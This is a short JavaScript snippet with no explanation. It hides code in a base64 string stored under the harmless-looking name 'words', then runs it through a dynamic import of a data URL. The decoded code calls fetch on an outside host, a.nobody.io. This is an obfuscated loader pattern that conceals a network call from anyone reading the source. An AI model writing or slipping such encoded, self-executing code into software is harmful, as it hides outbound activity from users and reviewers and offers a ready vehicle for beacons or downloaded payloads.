const words = 'ZmV0Y2goJ2h0dHBzOi8vYS5ub2JvZHkuaW8nKQ==';
await import('data:text/javascript;base64,' + words);
